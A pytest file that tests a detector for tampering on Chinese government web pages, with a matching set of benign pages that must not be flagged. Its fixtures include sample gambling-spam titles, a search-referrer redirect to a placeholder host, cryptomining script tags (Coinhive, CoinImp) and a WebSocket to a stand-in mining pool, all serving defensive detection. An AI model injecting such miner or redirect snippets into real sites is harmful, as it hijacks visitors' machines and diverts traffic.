import pytest

from govcrawl.errortext.detectors.tampering import Tampering
from govcrawl.model.candidate import Place, Severity
from tests.errortext.found import in_page, rules

BODY = "<p>全区防汛工作会议召开，部署下一步工作。</p>"
JUMP = "if(/(baidu|sogou|360)/.test(document.referrer)){window.location.href='http://a.example/'}"
ENCODED = "".join(f"&#x{ord(letter):x};" for letter in "东区政府网防汛通知")


@pytest.mark.parametrize(
    ("kind", "head", "body"),
    [
        ("head", "<title>澳门葡京赌场_六合彩开奖</title>", ""),
        ("head", '<title>东区人民政府</title><meta name="keywords" content="时时彩,百家乐">', ""),
        ("head", '<meta name="description" content="正规棋牌平台下载">', ""),
        ("jump", f"<script>{JUMP}</script>", ""),
        ("jump", "", f"<script>{JUMP}</script>"),
        ("mining", '<script src="https://coinhive.com/lib/coinhive.min.js"></script>', ""),
        ("mining", "", "<script>var m=new CoinHive.Anonymous('k');m.start()</script>"),
        ("mining", "", "<script>ws=new WebSocket('wss://xmr.pool.example:8443')</script>"),
        ("mining", "", "<ScRiPt>new CoinHive.Anonymous('k')</ScRiPt>"),
        ("mining", "", '<button><script src="//a.example/CoinImp.js"></script></button>'),
        ("refresh", '<meta http-equiv="refresh" content="0;url=http://a.example/">', ""),
        ("entities", f"<title>{ENCODED}</title>", ""),
    ],
)
def test_each_kind_of_tampering_is_found(kind, head, body):
    found = in_page(Tampering, BODY + body, head)
    assert rules(found) == [kind]
    assert found[0].severity is (Severity.HINT if kind == "entities" else Severity.HIDDEN_LINK)


@pytest.mark.parametrize(
    ("head", "body"),
    [
        ("<title>警方破获特大网络赌博案_东区公安</title>", "<p>警方破获特大网络赌博案</p>"),
        ("<title>关于百家乐小区改造的公示</title>", "<p>百家乐小区改造</p>"),
        ('<meta name="keywords" content="福利彩票,体育彩票公益金">', ""),
        ("<script>if(document.referrer){history.back()}</script>", ""),
        ("<script>if(/mobile/i.test(navigator.userAgent)){location.href='/m/'}</script>", ""),
        ("", "<p>警惕 coinhive 等挖矿脚本，整治虚拟货币“挖矿”</p>"),
        ("", "<script>ws=new WebSocket('wss://chat.dong.test:8443')</script>"),
        ('<meta http-equiv="refresh" content="0;url=/index.html">', ""),
        ('<meta http-equiv="refresh" content="0;url=http://www.dong.test/zw/">', ""),
        ('<meta http-equiv="refresh" content="0;url=http://www.dong.gov.cn/">', ""),
        (f"<title>{ENCODED}</title>", f"<p>{ENCODED * 3}</p>"),
        ("<title>东区&#183;人民政府</title>", ""),
    ],
)
def test_sound_pages_are_silent(head, body):
    assert in_page(Tampering, BODY + body, head) == []


def test_the_place_says_where_the_words_stand():
    (found,) = in_page(Tampering, BODY, "<title>东区人民政府_百家乐</title>")
    assert (found.place, found.wrong, found.start, found.end) == (Place.TITLE, "百家乐", 7, 10)
